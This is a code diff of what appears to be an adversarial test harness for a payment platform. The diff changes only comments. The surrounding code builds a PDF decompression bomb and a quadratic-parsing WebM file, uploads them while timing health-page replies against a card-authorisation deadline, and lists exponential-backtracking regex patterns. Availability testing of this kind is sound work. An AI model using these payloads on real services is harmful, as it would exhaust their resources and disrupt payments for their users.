@@ -2,7 +2,7 @@ import { deflateSync } from 'node:zlib'
 import type { Intruder } from '../intruder.ts'
 import type { PlatformStrategy, StrategyTools } from '../strategy.ts'
 
-/** A document whose object streams unfold to 20 MB each, in some kilobytes. */
+/** Builds a PDF of some kilobytes whose object streams decompress to 20 MB each. */
 function buildPdfBomb(streams: number): Buffer {
   const packed = deflateSync(Buffer.alloc(20_000_000, 0x20))
   const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`
@@ -26,7 +26,7 @@ async function upload({ client }: Intruder, file: Buffer): Promise<number> {
   return (await client.post('/common/upload/done', { filePath: data.filePath })).code
 }
 
-/** WebM with as many tracks and blocks as a walk may have: a length that costs their product where each block searches its track. */
+/** WebM with the maximum number of tracks and blocks that a parser may visit; quadratic if each block searches for its track. */
 function buildWebmBomb(): Buffer {
   const size = (bytes: number): Buffer => {
     const out = Buffer.alloc(8)
@@ -36,13 +36,13 @@ function buildWebmBomb(): Buffer {
   const element = (id: string, body: Buffer): Buffer => Buffer.concat([Buffer.from(id, 'hex'), size(body.length), body])
   const track = element('ae', Buffer.alloc(0))
   const tracks = element('1654ae6b', Buffer.concat(Array.from({ length: 60_000 }, () => track)))
-  // of track 1, which none of the tracks is
+  // blocks refer to track 1, which does not exist
   const block = Buffer.from('a3858100008000', 'hex')
   const cluster = element('1f43b675', Buffer.concat([Buffer.from('e78100', 'hex'), ...Array.from({ length: 95_000 }, () => block)]))
   return Buffer.concat([element('1a45dfa3', Buffer.from('4282847765626d', 'hex')), element('18538067', Buffer.concat([tracks, cluster]))])
 }
 
-/** Requests the health page until it is over, and counts replies that took longer than a card authorisation may wait. */
+/** Polls the health page until `isOver`, and counts replies slower than the time limit of a card authorisation. */
 async function countSlowAnswers(site: string, isOver: () => boolean): Promise<{ asked: number; slow: number }> {
   const count = { asked: 0, slow: 0 }
   while (!isOver()) {
@@ -54,7 +54,7 @@ async function countSlowAnswers(site: string, isOver: () => boolean): Promise<{ 
   }
   return count
 }
-/** An issuer waits two seconds for an answer about a card. */
+/** An issuer waits two seconds for the reply to a card authorisation. */
 const MAX_ANSWER_MS = 2_000
 
 async function run({ intruder, must, needs, platform }: StrategyTools): Promise<void> {
@@ -71,7 +71,7 @@ async function run({ intruder, must, needs, platform }: StrategyTools): Promise<
     return (await fetch(`${site}/v1/audio/transcriptions`, { method: 'POST', headers: { authorization: `Bearer ${made.apiKey}` }, body: form })).status
   }
   const [pdf, deep] = [buildPdfBomb(200), buildPdfBomb(40)]
-  // a request without an answer is no reason to stop: the watch counts it
+  // a request without a reply does not stop the attack: the watch counts it
   const sent = [...attackers.flatMap((one) => [upload(one, pdf), upload(one, deep)]), speak(), speak()]
   const outcomes = await Promise.all(sent.map((each) => each.catch(() => 0)))
   isOver = true
@@ -84,7 +84,7 @@ async function run({ intruder, must, needs, platform }: StrategyTools): Promise<
   )
 }
 
-/** Patterns on which a backtracking matcher takes exponential time, for the stand-in of a vendor that honours a schema. */
+/** Patterns on which a backtracking matcher takes exponential time, sent to the mock of a vendor that honours a schema. */
 const PATTERNS = ['^(a+)+$', '^(([a-z])+.)+[A-Z]([a-z])+$', '^(x+x+)+y$', '^(.*)*$', '(?=(a+))a*b\\1', '^((a{0,99}){0,99}){0,99}$', '^(a|a)*$']
 
 async function trySlowPatterns({ intruder, must, needs, platform }: StrategyTools): Promise<void> {
